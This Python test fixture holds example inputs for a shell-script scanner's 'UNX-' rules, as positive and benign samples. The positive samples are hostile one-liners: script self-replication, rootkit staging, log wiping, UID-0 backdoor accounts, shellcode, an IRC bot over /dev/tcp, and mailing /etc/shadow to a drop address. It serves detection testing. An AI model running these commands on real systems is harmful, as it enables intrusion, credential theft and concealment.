"""Examples for the `UNX-` rules; every text is synthetic, written for these tests."""

from __future__ import annotations

from wingman.core.scripts.types import Lang

SH = Lang.BASH
PY = Lang.PYTHON

# (rule id, language of the layer, text that must fire the rule)
POSITIVE: tuple[tuple[str, Lang, str], ...] = (
    # self-replication
    ("UNX-001", SH, 'for h in *.sh; do\n  [ -w "$h" ] && head -n 12 "$0" >> "$h"\ndone'),
    ("UNX-001", SH, "find . -type f -perm -100 -exec sh -c 'tail -20 $0 > {}' \\;"),
    ("UNX-001", SH, "for t in *\ndo\n  mv $t .$t.bak; cp $0 $t; chmod +x $t\ndone"),
    ("UNX-001", SH, 'for h in $(find . -name "*.sh"); do cat $0 "$h" > .t; done'),
    (
        "UNX-002",
        SH,
        "head -9 $0 > /tmp/.v\nfor h in *.sh; do cat $h >> /tmp/.v; mv /tmp/.v $h; done",
    ),
    ("UNX-040", SH, "insmod /lib/modules/.cache/mod.ko"),
    (
        "UNX-002",
        SH,
        "tail -n 15 $0 > /tmp/.body$$\nfind / -type f -exec sh -c 'cat /tmp/.body$$ >> {}' \\;",
    ),
    (
        "UNX-002",
        SH,
        'sed -n "1,30p" "$0" > /var/tmp/x\nfor v in ./*; do cat /var/tmp/x >> $v; done',
    ),
    (
        "UNX-003",
        SH,
        'for v in *; do\n  if file "$v" | grep -q "Bourne"; then tail -9 $0 >> "$v"; fi\ndone',
    ),
    (
        "UNX-003",
        SH,
        'for v in *; do\n  [ "$(head -c 9 $v)" = "#!/bin/sh" ] && tail -7 $0 >> $v\ndone',
    ),
    (
        "UNX-004",
        SH,
        'head -20 $0 > /tmp/s$$\nfor v in *; do\n  if [ -z "`grep -s sig $v`" ]; then\n'
        "    cat /tmp/s$$ >> $v\n  fi\ndone",
    ),
    # rootkits and backdoors
    ("UNX-010", SH, "mkdir -p /dev/.kit\ncp sniffer /dev/.kit/"),
    ("UNX-010", SH, "mkdir -p /dev/ttyop/\ntar xzf bins.tgz -C /dev/ttyop/"),
    ("UNX-010", SH, 'conf="/dev/hdx1/.cfg"'),
    ("UNX-010", SH, "cp /bin/ps /dev/sysx/backup/\n/dev/sysx/backup/daemon -p 2222"),
    ("UNX-011", SH, "echo 'hide-me' >> /usr/lib/.pcache"),
    ("UNX-011", SH, "touch /etc/.sysdb && chmod 600 /etc/.sysdb"),
    ("UNX-012", SH, "chattr -R -ia /bin/*\nchattr -ia /usr/sbin"),
    ("UNX-012", SH, "chattr -i /bin/netstat"),
    ("UNX-013", SH, "chattr +i $cfg"),
    ("UNX-014", SH, "mv /bin/ps /usr/lib/.ps.orig\ncp ./ps /bin/ps"),
    ("UNX-014", SH, "cat trojan > /usr/bin/top"),
    ("UNX-014", SH, "rm -f /sbin/ifconfig; install -m 755 ifc /sbin/ifconfig"),
    ("UNX-015", SH, "killall -9 syslogd"),
    ("UNX-015", SH, "/etc/init.d/rsyslog stop"),
    ("UNX-015", SH, "kill -9 `cat /var/run/syslogd.pid`"),
    ("UNX-015", SH, "systemctl stop rsyslog"),
    ("UNX-016", SH, "echo 'sysop::0:0::/:/bin/sh' >> /etc/passwd"),
    ("UNX-016", SH, "useradd -o -u 0 -g 0 -M -d / ops"),
    ("UNX-017", SH, "echo 'ingreslock stream tcp nowait root /bin/sh sh -i' >> /tmp/.ic"),
    ("UNX-018", SH, 'echo "$line" >> /etc/inetd.conf; killall -HUP inetd'),
    ("UNX-019", SH, "rm -f /var/run/utmp /var/log/lastlog"),
    ("UNX-019", SH, "find /var/log -type f -exec truncate -s 0 {} \\;"),
    ("UNX-019", SH, "rm -rf /var/log/*"),
    # exploits, scanners, bots
    ("UNX-020", SH, "SC=`printf '\\x31\\xc0\\x50\\x68\\x2f\\x2f\\x73\\x68\\x68'`"),
    ("UNX-020", SH, "payload=$(perl -e 'print \"\\x90\" x 400')"),
    ("UNX-020", SH, "printf '\\x90\\x90\\x90\\x90\\x90\\x90\\x90\\x90\\x90\\x90\\xcc' > egg"),
    ("UNX-021", SH, "./vuln `perl -e 'print \"A\"x1032'`"),
    ("UNX-021", SH, './svc "$(python -c \'print("B" * 520)\')"'),
    (
        "UNX-022",
        SH,
        'cat > /tmp/r.c <<EOF\nint main(){ setuid(0); setgid(0); execl("/bin/sh","sh",0); }\nEOF',
    ),
    ("UNX-022", PY, 'src = "main(){setreuid(geteuid(),-1); system(\\"/bin/bash\\");}"'),
    ("UNX-023", SH, "gcc -o /tmp/rs /tmp/rs.c && /tmp/rs"),
    ("UNX-024", SH, "ln -s /etc/shadow /tmp/report.log"),
    ("UNX-024", SH, "ln -sf /root/.rhosts /var/tmp/core"),
    ("UNX-025", SH, "objdump -R ./target | grep printf"),
    ("UNX-026", SH, "dig @ns1.example.net version.bind chaos txt"),
    ("UNX-027", SH, "v=`dig @$1 version.bind txt chaos`\ncase $v in 8.2*) ./x82 $1 ;; esac"),
    (
        "UNX-028",
        SH,
        "while true; do\n  net=`./randnet`\n  ./sscan $net 22 >> found.txt\ndone",
    ),
    ("UNX-029", SH, "ip=$((RANDOM%223+1)).$((RANDOM%255)).$((RANDOM%255)).$((RANDOM%255))"),
    (
        "UNX-030",
        SH,
        'exec 3<>/dev/tcp/irc.example.net/6667\necho "NICK b$RANDOM" >&3\n'
        'echo "JOIN #ops" >&3\nwhile read line <&3; do\n'
        '  case "$line" in PING*) echo "PONG ${line#PING }" >&3 ;; esac\ndone',
    ),
    ("UNX-031", SH, "hping3 -S --flood -p 80 $target"),
    ("UNX-031", SH, "ping -f -s 65500 $1"),
    ("UNX-033", SH, "LD_PRELOAD=/tmp/hook.so /usr/bin/passwd"),
    ("UNX-033", SH, "export LD_PRELOAD=./getuid.so; su -"),
    ("UNX-034", SH, "cp shim /tmp/ps; PATH=/tmp:$PATH /usr/local/bin/suidtool"),
    ("UNX-035", SH, "IFS=/; export IFS; /usr/sbin/suidprog"),
    ("UNX-036", SH, "if [ ! -u /usr/bin/at ]; then echo 'not setuid'; exit 1; fi"),
    ("UNX-037", SH, "sleep 5\n/tmp/rootsh -p"),
    ("UNX-040", SH, "/sbin/insmod -f ./hide.o 2>/dev/null"),
    ("UNX-041", SH, "ifconfig eth0 promisc; ./sniff > /dev/.log &"),
    ("UNX-042", SH, "echo '/usr/lib/.x/start' >> /etc/rc.d/rc.local"),
    ("UNX-043", SH, "./sshd -f ./sshd_config -p 31337"),
    ("UNX-044", SH, "find / -name 'index.htm*' -exec cp deface.html {} \\;"),
    ("UNX-045", SH, 'mail -s "$(hostname)" drop@example.net < /etc/shadow'),
    ("UNX-045", SH, "cat /etc/passwd /etc/shadow | mail drop@example.net"),
    ("UNX-046", SH, "/sbin/ifconfig -a | mail -s up drop@example.net"),
    (
        "UNX-032",
        SH,
        "cd /tmp; wget http://198.51.100.7/b.mips; wget http://198.51.100.7/b.arm7;"
        "\nwget http://198.51.100.7/b.x86; chmod 777 b.*",
    ),
)

# (language, text) that no rule may judge suspicious
BENIGN: tuple[tuple[Lang, str], ...] = (
    # Self-extracting installers read their own file to unpack the payload.
    (SH, 'SKIP=$(awk "/^__ARCHIVE__/ {print NR + 1; exit 0}" "$0")\ntail -n +$SKIP "$0" | tar xz'),
    (SH, 'echo "Usage: $0 <stable|test>" >&2\nfor f in *.sh; do shellcheck "$f"; done'),
    (SH, 'cp "$0" /usr/local/bin/mytool && chmod +x /usr/local/bin/mytool'),
    (
        SH,
        'for f in *.sh; do\n  if [ "$(head -n 1 "$f")" = "#!/bin/sh" ]; then echo "$f"; fi\ndone',
    ),
    (
        SH,
        'for f in conf.d/*; do\n  if [ -z "$(grep -s include "$f")" ]; then\n'
        '    echo "include common" >> "$f"\n  fi\ndone',
    ),
    # System administration that touches the same places a rootkit does.
    (SH, "chattr +i /etc/resolv.conf"),
    (SH, "chattr -i /etc/resolv.conf && cp resolv.conf /etc/resolv.conf"),
    (SH, "killall -HUP syslogd\nservice rsyslog restart"),
    (SH, "mkdir -p /dev/net && mknod /dev/net/tun c 10 200"),
    (SH, "mount /dev/vg0/data /srv && mkfs.ext4 /dev/vg0/scratch"),
    (SH, "ls /usr/lib/.build-id/ | head\ncd /etc/.git && git log -1"),
    (SH, "cp /bin/ls /tmp/ls.copy && cp /bin/ps /tmp/"),
    (SH, "install -m 755 build/mytool /usr/local/bin/mytool"),
    (SH, 'echo "app:x:$(id -u):0:app user:/home/app:/bin/sh" >> /etc/passwd'),
    (SH, "grep '^root:x:0:0:' /etc/passwd"),
    (SH, "find /var/log -name '*.gz' -mtime +30 -delete"),
    (SH, "ln -s /etc/nginx/sites-available/app /etc/nginx/sites-enabled/app"),
    # Build scripts, tooling and network administration.
    (SH, "cc -o conftest conftest.c && ./conftest"),
    (SH, "objdump -d build/app | less\nreadelf -r build/app"),
    (SH, "dig +short example.org TXT"),
    (SH, "while true; do ./healthcheck.sh; sleep 10; done"),
    (SH, "ping -c 4 -s 1400 gateway.local"),
    (SH, "curl -LO https://example.org/releases/tool-linux-arm64.tar.gz"),
    (
        SH,
        'case "$(uname -m)" in\n  x86_64) arch=amd64 ;;\n  aarch64) arch=arm64 ;;\nesac\n'
        'curl -fsSL "https://example.org/dl/tool-$arch" -o tool',
    ),
    (SH, 'printf "\\x1b[0;32m%s\\x1b[0m\\n" "done"'),
    (SH, 'IFS=/ read -r -a parts <<< "$path"'),
    (SH, 'export PATH="$HOME/.local/bin:$PATH"\nLD_PRELOAD=/usr/lib/libjemalloc.so app'),
    (SH, "[ -x /usr/bin/git ] || apt-get install -y git"),
    (SH, "/usr/sbin/sshd -D"),
    (SH, "modprobe br_netfilter && sysctl -p"),
    (SH, "df -h | mail -s 'disk report' ops@example.org"),
    (SH, "find /var/www -name index.html -print"),
    (SH, "echo 'net.ipv4.ip_forward=1' >> /etc/sysctl.conf"),
)
